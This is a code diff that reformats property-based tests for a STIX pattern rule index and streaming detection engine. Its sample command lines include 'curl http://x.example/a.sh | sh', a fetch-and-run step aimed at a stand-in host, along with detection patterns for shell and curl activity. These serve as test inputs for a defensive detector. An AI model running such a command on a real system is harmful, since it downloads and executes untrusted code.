@@ -15,7 +15,13 @@ import { prepareObservations } from '../../src/pattern/observation.js';
 
 const NAMES = ['bash', 'sh', 'nginx', 'curl', 'évier', 'KELVIN'];
 const IPS = ['10.0.0.1', '10.1.2.3', '192.168.1.1', '203.0.113.9', '::1', '2001:db8::1'];
-const LINES = ['bash -c run 12', 'curl http://x.example/a.sh | sh', 'sh -c "echo evil"', 'python3 -m http.server', 'cafe\u0301 au lait'];
+const LINES = [
+  'bash -c run 12',
+  'curl http://x.example/a.sh | sh',
+  'sh -c "echo evil"',
+  'python3 -m http.server',
+  'cafe\u0301 au lait',
+];
 
 const str = (s: string): string => `'${s.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`;
 
@@ -23,9 +29,15 @@ const comparisonArb: fc.Arbitrary<string> = fc.oneof(
   fc.constantFrom(...NAMES).map((n) => `process:name = ${str(n)}`),
   fc.subarray(NAMES, { minLength: 1 }).map((ns) => `process:name IN (${ns.map(str).join(', ')})`),
   fc.constantFrom(...NAMES).map((n) => `process:name != ${str(n)}`),
-  fc.constantFrom('%bash%', 'bash -c%', '%sh', 'cu_l%', '%run 1_', '%evil%', '%caf%').map((l) => `process:command_line LIKE ${str(l)}`),
-  fc.constantFrom('run [0-9]+', 'curl http', '(ba)?sh -c', 'sh$', 'echo\\s+evil', '[.]example', 'http\\.server').map((r) => `process:command_line MATCHES ${str(r)}`),
-  fc.constantFrom('10.0.0.0/8', '10.1.0.0/16', '192.168.0.0/16', '0.0.0.0/0', '2001:db8::/32').map((c) => `network-traffic:dst_ref.value ISSUBSET ${str(c)}`),
+  fc
+    .constantFrom('%bash%', 'bash -c%', '%sh', 'cu_l%', '%run 1_', '%evil%', '%caf%')
+    .map((l) => `process:command_line LIKE ${str(l)}`),
+  fc
+    .constantFrom('run [0-9]+', 'curl http', '(ba)?sh -c', 'sh$', 'echo\\s+evil', '[.]example', 'http\\.server')
+    .map((r) => `process:command_line MATCHES ${str(r)}`),
+  fc
+    .constantFrom('10.0.0.0/8', '10.1.0.0/16', '192.168.0.0/16', '0.0.0.0/0', '2001:db8::/32')
+    .map((c) => `network-traffic:dst_ref.value ISSUBSET ${str(c)}`),
   fc.constantFrom(22, 80, 443, 4444).map((p) => `network-traffic:dst_port = ${p}`),
   fc.constantFrom(22, 80, 443, 4444).map((p) => `network-traffic:dst_port > ${p}`),
   fc.constantFrom(...IPS).map((ip) => `ipv4-addr:value = ${str(ip)}`),
@@ -53,7 +65,14 @@ const eventArb = fc
     type: 'bundle',
     id: 'bundle--1',
     objects: [
-      { type: 'observed-data', id: 'observed-data--1', first_observed: '2026-01-01T00:00:00Z', last_observed: '2026-01-01T00:00:00Z', number_observed: 1, object_refs: ['process--1', 'network-traffic--1', 'ipv4-addr--1'] },
+      {
+        type: 'observed-data',
+        id: 'observed-data--1',
+        first_observed: '2026-01-01T00:00:00Z',
+        last_observed: '2026-01-01T00:00:00Z',
+        number_observed: 1,
+        object_refs: ['process--1', 'network-traffic--1', 'ipv4-addr--1'],
+      },
       { type: 'process', id: 'process--1', name, command_line: line, ...(flag === undefined ? {} : { x_flag: flag }) },
       { type: 'network-traffic', id: 'network-traffic--1', dst_ref: 'ipv4-addr--1', dst_port: port },
       { type: ip.includes(':') ? 'ipv6-addr' : 'ipv4-addr', id: 'ipv4-addr--1', value: ip },
@@ -79,14 +98,28 @@ describe('rule index', () => {
   });
 
   it('finds substring literals anywhere in a value, around non-ASCII characters too', () => {
-    const text = fc.array(fc.constantFrom('a', 'b', 'c', '-', ' ', 'é', 'e\u0301', '\u00ff', '\u{1F600}'), { maxLength: 24 }).map((parts) => parts.join(''));
-    const literal = fc.array(fc.constantFrom('a', 'b', 'c', '-', ' '), { minLength: 3, maxLength: 5 }).map((parts) => parts.join(''));
+    const text = fc
+      .array(fc.constantFrom('a', 'b', 'c', '-', ' ', 'é', 'e\u0301', '\u00ff', '\u{1F600}'), { maxLength: 24 })
+      .map((parts) => parts.join(''));
+    const literal = fc
+      .array(fc.constantFrom('a', 'b', 'c', '-', ' '), { minLength: 3, maxLength: 5 })
+      .map((parts) => parts.join(''));
     fc.assert(
       fc.property(fc.array(literal, { minLength: 1, maxLength: 6 }), text, (literals, line) => {
         const index = new RuleIndex();
-        const observations = literals.map((l) => compilePattern(`[process:command_line LIKE ${str(`%${l}%`)}]`).observations[0]!);
+        const observations = literals.map(
+          (l) => compilePattern(`[process:command_line LIKE ${str(`%${l}%`)}]`).observations[0]!,
+        );
         observations.forEach((o, id) => index.add(id, o.expression.comparison, o.rootTypes));
-        const [prepared] = prepareObservations([{ type: 'observed-data', first_observed: '2026-01-01T00:00:00Z', last_observed: '2026-01-01T00:00:00Z', number_observed: 1, objects: { 0: { type: 'process', command_line: line } } }]);
+        const [prepared] = prepareObservations([
+          {
+            type: 'observed-data',
+            first_observed: '2026-01-01T00:00:00Z',
+            last_observed: '2026-01-01T00:00:00Z',
+            number_observed: 1,
+            objects: { 0: { type: 'process', command_line: line } },
+          },
+        ]);
         const offered = new Set<number>();
         index.candidates(prepared!, (id) => offered.add(id));
         observations.forEach((o, id) => {
@@ -108,8 +141,21 @@ describe('rule index', () => {
       else seen.set(stringKey(value), value);
     }
     const [first, second] = pair;
-    const engine = new StreamingEngine({ rules: [first, second].map((v, i) => createRule({ id: `r${i}`, name: v, pattern: `[process:x_host_id = '${v}']` })), store: new InMemoryStateStore() });
-    const [prepared] = prepareObservations([{ type: 'observed-data', first_observed: '2026-01-01T00:00:00Z', last_observed: '2026-01-01T00:00:00Z', number_observed: 1, objects: { 0: { type: 'process', x_host_id: second } } }]);
+    const engine = new StreamingEngine({
+      rules: [first, second].map((v, i) =>
+        createRule({ id: `r${i}`, name: v, pattern: `[process:x_host_id = '${v}']` }),
+      ),
+      store: new InMemoryStateStore(),
+    });
+    const [prepared] = prepareObservations([
+      {
+        type: 'observed-data',
+        first_observed: '2026-01-01T00:00:00Z',
+        last_observed: '2026-01-01T00:00:00Z',
+        number_observed: 1,
+        objects: { 0: { type: 'process', x_host_id: second } },
+      },
+    ]);
     const index = new RuleIndex();
     [first, second].forEach((v, id) => {
       const o = compilePattern(`[process:x_host_id = '${v}']`).observations[0]!;
@@ -130,7 +176,15 @@ describe('rule index', () => {
       const o = compilePattern(`[process:name = '${n}']`).observations[0]!;
       index.add(id, o.expression.comparison, o.rootTypes);
     });
-    const [prepared] = prepareObservations([{ type: 'observed-data', first_observed: '2026-01-01T00:00:00Z', last_observed: '2026-01-01T00:00:00Z', number_observed: 1, objects: { 0: { type: 'process', name: 'tool7.exe' } } }]);
+    const [prepared] = prepareObservations([
+      {
+        type: 'observed-data',
+        first_observed: '2026-01-01T00:00:00Z',
+        last_observed: '2026-01-01T00:00:00Z',
+        number_observed: 1,
+        objects: { 0: { type: 'process', name: 'tool7.exe' } },
+      },
+    ]);
     const offered: number[] = [];
     index.candidates(prepared!, (id) => offered.push(id));
     expect(offered).toEqual([7]);
@@ -138,9 +192,29 @@ describe('rule index', () => {
   });
 
   it('extracts only literals that every regex match contains', () => {
-    const atom = fc.constantFrom('a', 'b', 'c', 'ab', 'abc', '.', '\\.', '[ab]', '(ab)', '(a|b)', 'x', '\\d', '\\x61', '\\Qa.b\\E');
+    const atom = fc.constantFrom(
+      'a',
+      'b',
+      'c',
+      'ab',
+      'abc',
+      '.',
+      '\\.',
+      '[ab]',
+      '(ab)',
+      '(a|b)',
+      'x',
+      '\\d',
+      '\\x61',
+      '\\Qa.b\\E',
+    );
     const quantifier = fc.constantFrom('', '', '?', '*', '+', '{2}', '{0,2}', '{1,3}');
-    const regexArb = fc.array(fc.tuple(atom, quantifier).map(([a, q]) => a + q), { minLength: 1, maxLength: 6 }).map((parts) => parts.join(''));
+    const regexArb = fc
+      .array(
+        fc.tuple(atom, quantifier).map(([a, q]) => a + q),
+        { minLength: 1, maxLength: 6 },
+      )
+      .map((parts) => parts.join(''));
     const textArb = fc.stringMatching(/^[abcx.1]{0,12}$/);
     fc.assert(
       fc.property(regexArb, textArb, (regex, text) => {
@@ -151,7 +225,8 @@ describe('rule index', () => {
         } catch {
           return;
         }
-        if (literal !== undefined && re.matcher(text).find()) expect(text.includes(literal), `${regex} matched ${text} without ${literal}`).toBe(true);
+        if (literal !== undefined && re.matcher(text).find())
+          expect(text.includes(literal), `${regex} matched ${text} without ${literal}`).toBe(true);
       }),
       { seed: 5, numRuns: 3000 },
     );
